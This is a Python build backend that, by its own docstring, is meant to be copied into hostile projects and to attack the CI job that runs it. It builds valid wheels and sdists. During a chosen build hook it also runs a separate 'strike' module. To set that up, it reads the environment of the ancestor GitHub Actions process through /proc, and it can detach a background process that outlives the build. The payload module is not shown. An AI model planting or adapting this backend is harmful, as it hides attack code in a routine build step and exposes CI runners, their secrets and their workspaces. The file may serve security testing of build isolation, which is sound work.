"""A build backend inside a project, which attacks the job that runs it.

It is copied into hostile projects, so it uses the standard library alone. What it builds is valid;
what it does besides is `strike(job)` of the module `strike` beside it, in the hook that
`strike.json` names.
"""

import base64
import gzip
import hashlib
import importlib
import io
import json
import os
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

_OPTIONS = json.loads(Path("strike.json").read_text(encoding="utf-8"))


class Job:
    """The job that runs this backend, as far as a process of the same user reaches it.

    Attributes:
        options: What `strike.json` says.
        pid: The process of the action that asked this backend.
        environ: The environment of that process, of which the backend itself gets little.
    """

    def __init__(self) -> None:
        self.options: dict[str, Any] = _OPTIONS
        self.pid, self.environ = _find_action()

    @property
    def workspace(self) -> Path:
        """Return the job's checkout."""
        return Path(self.environ["GITHUB_WORKSPACE"])

    def in_background(self, action: Callable[[], None]) -> None:
        """Run something in a process that outlives this backend, and everything of its group."""
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        nowhere = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(nowhere, descriptor)
        os.closerange(3, 256)
        try:
            action()
        finally:
            os._exit(0)

    def write_release(self, folder: Path, name: str, version: str, content: str) -> list[Path]:
        """Write a wheel and an sdist of any project."""
        return [
            folder / write_wheel(folder, name, version, content),
            folder / write_sdist(folder, name, version, {"content.txt": content.encode()}),
        ]


def build_sdist(folder: str, config_settings: object = None) -> str:
    """Build an sdist of what lies here, hostile parts included."""
    _strike("build_sdist")
    files = {path.name: path.read_bytes() for path in sorted(Path().iterdir()) if path.is_file()}
    return write_sdist(Path(folder), _OPTIONS["name"], _OPTIONS["version"], files)


def build_wheel(folder: str, config_settings: object = None, metadata: object = None) -> str:
    """Build a wheel with one module."""
    name = write_wheel(Path(folder), _OPTIONS["name"], _OPTIONS["version"], _OPTIONS["content"])
    _strike("build_wheel")
    return name


def prepare_metadata_for_build_wheel(folder: str, config_settings: object = None) -> str:
    """Write the metadata that the wheel would have."""
    info = f"{_module(_OPTIONS['name'])}-{_OPTIONS['version']}.dist-info"
    target = Path(folder, info)
    target.mkdir()
    text = _metadata(_OPTIONS["name"], _OPTIONS["version"])
    (target / "METADATA").write_text(text, encoding="utf-8")
    _strike("prepare_metadata_for_build_wheel")
    return info


def write_wheel(folder: Path, name: str, version: str, content: str) -> str:
    """Write a pure wheel, and return its file name."""
    info, module = f"{_module(name)}-{version}.dist-info", _module(name)
    files = {
        f"{module}/__init__.py": content,
        f"{info}/METADATA": _metadata(name, version),
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
    }
    lines = [_record_line(path, text.encode()) for path, text in files.items()]
    files[f"{info}/RECORD"] = "".join([*lines, f"{info}/RECORD,,\n"])
    path = folder / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, text in files.items():
            archive.writestr(zipfile.ZipInfo(member), text)
    return path.name


def write_sdist(folder: Path, name: str, version: str, files: dict[str, bytes]) -> str:
    """Write an sdist of these files, and return its file name."""
    root, raw = f"{_module(name)}-{version}", io.BytesIO()
    pyproject = b"[build-system]\nrequires = []\n"
    members = {"PKG-INFO": _metadata(name, version).encode(), "pyproject.toml": pyproject, **files}
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for member, content in members.items():
            description = tarfile.TarInfo(f"{root}/{member}")
            description.size = len(content)
            archive.addfile(description, io.BytesIO(content))
    path = folder / f"{root}.tar.gz"
    path.write_bytes(gzip.compress(raw.getvalue(), mtime=0))
    return path.name


def _metadata(name: str, version: str) -> str:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A test\n"


def _module(name: str) -> str:
    return name.replace("-", "_")


def _record_line(path: str, content: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(content)}\n"


def _strike(hook: str) -> None:
    if _OPTIONS["hook"] == hook:
        importlib.import_module("strike").strike(Job())


def _find_action() -> tuple[int, dict[str, str]]:
    """Find the process among our ancestors that knows the runner's files."""
    pid = os.getpid()
    while pid > 1:
        raw = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
        environ = dict(line.partition("=")[::2] for line in raw.split("\0") if "=" in line)
        if "GITHUB_OUTPUT" in environ:
            return pid, environ
        pid = int(
            Path(f"/proc/{pid}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()[1]
        )
    sys.exit("no action runs this backend")
